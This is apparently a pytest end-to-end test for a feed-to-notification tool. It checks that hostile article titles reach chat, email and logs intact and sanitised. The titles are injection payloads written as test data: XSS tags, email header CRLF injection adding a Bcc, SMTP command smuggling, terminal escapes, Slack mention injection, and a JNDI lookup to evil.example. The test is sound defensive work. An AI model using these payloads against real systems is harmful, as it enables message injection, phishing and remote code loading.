"""Hostile titles through the whole pipe: messages arrive whole, and do nothing but be read."""

import json

import pytest

from support.messages import INVISIBLE, OUR_TAGS, Page
from support.press import HTML, Report, report
from support.running import Installation
from support.server import Answer, LocalServer
from support.sinks import Sinks

pytestmark = pytest.mark.e2e

ABOUT = "Kazakhstan and the United States"
TITLES = [
    f"{ABOUT} sign\x00\x07\x1b[2J\x1b]0;owned\x07 \x9b31m control",
    f"{ABOUT} agree " + "endlessly " * 1000,
    f"{ABOUT} <script>alert(1)</script> <img src=x onerror=alert(2)> & <b>markup",
    f"{ABOUT} <!channel> <!here> <@U123> <https://evil.example|click> *bold* `code` slack",
    f"{ABOUT}\r\nBcc: victim@example.org\r\nX-Injected: yes\r\n\r\nA body of theirs",
    f"{ABOUT}\nSubject: other\n.\nQUIT\nMAIL FROM:<x@example.org>",
    f"{ABOUT} \u202ereversed\u202c \u2066isolated\u2069 \u200fmarks bidi",
    f"=?utf-8?B?QmNjOiB2aWN0aW1AZXhhbXBsZS5vcmc=?= {ABOUT} encoded",
    f"{ABOUT} \ud83d\ude00 {{{{7*7}}}} ${{jndi:ldap://evil.example}} %s %(secret)s {{secret}}",
    f"{ABOUT} " + "e\u0301\u0302\u0303" * 200 + " combining",
]
HEADERS = {
    "Subject",
    "From",
    "To",
    "Date",
    "Message-ID",
    "X-Monitor-Delivery",
    "List-Id",
    "X-Monitor-Watchlists",
    "Auto-Submitted",
    "MIME-Version",
    "Content-Type",
}


@pytest.fixture
def feed(server: LocalServer) -> str:
    """A JSON Feed, which can hold any character; the pages hold the titles once more."""
    items = []
    for number, title in enumerate(TITLES):
        page = Report(path=f"/bad/{number}", title=title, text=report(number).text)
        body = page.page() if "\ud83d" not in title else report(number).page()
        address = server.route(page.path, Answer(body=body, headers=HTML))
        summary = f"{title} in the summary"
        author = [{"name": title}]
        items.append({"id": title, "url": address, "title": title, "summary": summary, "authors": author})
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Steppe", "items": items}
    return server.route("/feed.json", Answer(body=json.dumps(feed).encode()))


def test_no_title_breaks_a_message(desk: Installation, sinks: Sinks, feed: str) -> None:
    desk.feeds({"steppe": feed}, title="Courier <!here>")

    daemon = desk.start()
    desk.settle()

    assert len(TITLES) == len(desk.verdicts())
    for channel in sinks.channels:
        assert dict.fromkeys(desk.deliveries(channel), 1) == sinks.counts(channel)
        assert len(TITLES) == len(sinks.at(channel))
        for arrival in sinks.at(channel):
            assert INVISIBLE.findall(arrival.title + arrival.text) == []
            assert "Kazakhstan" in arrival.title
            assert "\n" not in arrival.title
            assert len(arrival.title) <= 300
    for taken in sinks.mail.taken:
        assert taken.recipients == ("reader@example.org",)
        mail = taken.mail()
        assert set(mail.keys()) == HEADERS
        assert mail.defects == []
        page = mail.get_body(("html",))
        assert page is not None
        assert set(Page(page.get_content()).tags) <= OUR_TAGS
    # Neither do they break the log: a line stays a line, without commands to the terminal.
    assert INVISIBLE.findall(daemon.log) == []
    assert daemon.lines("X-Injected") == daemon.lines("X-Injected", "event=judged")
